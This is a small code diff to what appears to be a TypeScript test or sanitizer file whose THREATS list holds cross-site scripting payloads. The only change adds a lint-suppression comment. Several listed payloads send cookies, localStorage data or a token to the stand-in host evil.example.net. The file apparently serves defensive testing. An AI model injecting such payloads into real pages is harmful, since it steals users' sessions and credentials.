@@ -13,6 +13,7 @@ const THREATS: Record<string, readonly string[]> = {
     '<script>fetch("https://evil.example.net/c?c="+document.cookie)</script>',
     '<script>navigator.sendBeacon("https://evil.example.net/c", JSON.stringify(localStorage.all))</script>',
     '<script>var c = document.cookie; new Image().src = "//evil.example.net/p?d=" + encodeURIComponent(c);</script>',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the page's code
     '<script>const t=localStorage.getItem("token");fetch(`https://evil.example.net/?t=${t}`)</script>',
     '<script>fetch("https://evil.example.net/x",{method:"POST",body:document.cookie})</script>',
     '<img src=x onerror="location=\'https://evil.example.net/?\'+document.cookie">',
